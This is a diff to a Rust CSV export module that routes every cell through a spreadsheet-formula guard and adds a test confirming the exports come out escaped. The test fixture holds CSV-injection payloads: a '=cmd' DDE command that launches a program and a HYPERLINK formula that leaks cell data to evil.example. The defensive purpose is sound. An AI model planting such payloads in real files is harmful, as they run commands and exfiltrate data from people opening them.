@@ -1,14 +1,42 @@
 //! Stage 7: the dataset as CSV with every original column plus the results of this run.
 
-use csv::WriterBuilder;
+use csv::{Writer, WriterBuilder};
 use thiserror::Error;
 
 use super::load::Table;
+use super::spreadsheet::guard;
 
 #[derive(Debug, Error)]
 pub enum ExportError {
     #[error("Could not write the CSV: {0}")]
     Write(String),
+}
+
+/// The one CSV writer every export goes through: RFC 4180 quoting by the csv crate, and every
+/// cell through `spreadsheet::guard`, so no export carries a live spreadsheet formula.
+pub struct CsvOut {
+    writer: Writer<Vec<u8>>,
+}
+
+impl CsvOut {
+    /// A writer whose output is expected to be about `bytes` long.
+    pub fn with_capacity(bytes: usize) -> CsvOut {
+        CsvOut { writer: WriterBuilder::new().from_writer(Vec::with_capacity(bytes)) }
+    }
+
+    pub fn row<S: AsRef<str>>(&mut self, cells: impl IntoIterator<Item = S>) -> Result<(), ExportError> {
+        let error = |e: csv::Error| ExportError::Write(e.to_string());
+        for cell in cells {
+            self.writer.write_field(guard(cell.as_ref()).as_bytes()).map_err(error)?;
+        }
+        // An empty record ends the one written field by field (the csv crate's way).
+        self.writer.write_record(None::<&[u8]>).map_err(error)
+    }
+
+    pub fn finish(self) -> Result<String, ExportError> {
+        let bytes = self.writer.into_inner().map_err(|e| ExportError::Write(e.to_string()))?;
+        String::from_utf8(bytes).map_err(|e| ExportError::Write(e.to_string()))
+    }
 }
 
 /// What a run adds to each usable row.
@@ -33,13 +61,13 @@ pub fn export_csv(table: &Table, run: &RunColumns) -> Result<String, ExportError
             *slot = Some(i);
         }
     }
-    let mut w = WriterBuilder::new().from_writer(Vec::with_capacity(table.n_rows() * 128));
+    let mut w = CsvOut::with_capacity(table.n_rows() * 128);
     let extra = run.dim + 4;
     let mut header: Vec<String> = table.headers.clone();
     header.extend(["cluster".to_string(), "cluster_name".to_string()]);
     header.extend((0..run.dim).map(|j| format!("z{j}")));
     header.extend(["map_x".to_string(), "map_y".to_string()]);
-    w.write_record(&header).map_err(|e| ExportError::Write(e.to_string()))?;
+    w.row(&header)?;
     let mut record: Vec<String> = Vec::with_capacity(header.len());
     for (r, result) in result_of.iter().enumerate() {
         record.clear();
@@ -48,10 +76,9 @@ pub fn export_csv(table: &Table, run: &RunColumns) -> Result<String, ExportError
             Some(i) => push_results(&mut record, run, i),
             None => record.extend(std::iter::repeat_n(String::new(), extra)),
         }
-        w.write_record(&record).map_err(|e| ExportError::Write(e.to_string()))?;
+        w.row(&record)?;
     }
-    let bytes = w.into_inner().map_err(|e| ExportError::Write(e.to_string()))?;
-    String::from_utf8(bytes).map_err(|e| ExportError::Write(e.to_string()))
+    w.finish()
 }
 
 fn push_results(record: &mut Vec<String>, run: &RunColumns, i: usize) {
@@ -73,11 +100,11 @@ pub struct PlaylistSong {
 /// The playlist in its order: `position`, every original column, `cluster`, `cluster_name`.
 /// Rows beyond the table (a playlist saved for another version of the file) are skipped.
 pub fn playlist_csv(table: &Table, songs: &[PlaylistSong]) -> Result<String, ExportError> {
-    let mut w = WriterBuilder::new().from_writer(Vec::with_capacity(songs.len() * 128 + 256));
+    let mut w = CsvOut::with_capacity(songs.len() * 128 + 256);
     let mut header = vec!["position".to_string()];
     header.extend(table.headers.iter().cloned());
     header.extend(["cluster".to_string(), "cluster_name".to_string()]);
-    w.write_record(&header).map_err(|e| ExportError::Write(e.to_string()))?;
+    w.row(&header)?;
     let present = songs.iter().filter(|s| s.table_row < table.n_rows());
     for (position, song) in present.enumerate() {
         let mut record = vec![(position + 1).to_string()];
@@ -86,10 +113,9 @@ pub fn playlist_csv(table: &Table, songs: &[PlaylistSong]) -> Result<String, Exp
             Some((id, name)) => record.extend([id.to_string(), name.clone()]),
             None => record.extend([String::new(), String::new()]),
         }
-        w.write_record(&record).map_err(|e| ExportError::Write(e.to_string()))?;
+        w.row(&record)?;
     }
-    let bytes = w.into_inner().map_err(|e| ExportError::Write(e.to_string()))?;
-    String::from_utf8(bytes).map_err(|e| ExportError::Write(e.to_string()))
+    w.finish()
 }
 
 #[cfg(test)]
@@ -120,6 +146,29 @@ mod tests {
         assert_eq!(back.cell(1, 2), "");
         assert_eq!(back.cell(2, 2), "0");
         assert_eq!(back.cell(2, 3), "calm");
+    }
+
+    #[test]
+    fn no_export_carries_a_formula_and_reimport_gives_the_cells_back() {
+        let src = "song,artist,energy,=cmd|' /C calc'!A0\n\"=HYPERLINK(\"\"http://evil.example/?leak=\"\"&A1,\"\"Click me\"\")\",@ ME,-6.5,'Til Tuesday\n+1+1,-- x --,0.5,\"'=1\"\n";
+        let t = parse_csv(src.as_bytes()).unwrap();
+        let names = ["=1+1".to_string(), "@evil".to_string()];
+        let run = RunColumns { rows: &[0, 1], labels: &[0, 1], codes: &[-0.5, 1.0], dim: 1, map: &[-1.0, 2.0, 3.0, -4.0], names: &names };
+        let out = export_csv(&t, &run).unwrap();
+        assert_eq!(
+            out,
+            "song,artist,energy,'=cmd|' /C calc'!A0,cluster,cluster_name,z0,map_x,map_y\n\
+             \"'=HYPERLINK(\"\"http://evil.example/?leak=\"\"&A1,\"\"Click me\"\")\",'@ ME,-6.5,'Til Tuesday,0,'=1+1,-0.5,-1,2\n\
+             '+1+1,'-- x --,0.5,'=1,1,'@evil,1,3,-4\n"
+        );
+        let back = parse_csv(out.as_bytes()).unwrap();
+        assert_eq!(back.headers[..4], t.headers[..]);
+        for r in 0..2 {
+            assert_eq!(back.row(r).take(4).collect::<Vec<_>>(), t.row(r).collect::<Vec<_>>(), "row {r}");
+        }
+        assert_eq!(back.cell(0, 5), "=1+1");
+        let playlist = playlist_csv(&t, &[PlaylistSong { table_row: 0, cluster: Some((0, "=1+1".into())) }]).unwrap();
+        assert!(playlist.contains("\"'=HYPERLINK(") && playlist.ends_with(",'@ ME,-6.5,'Til Tuesday,0,'=1+1\n"), "{playlist}");
     }
 
     #[test]
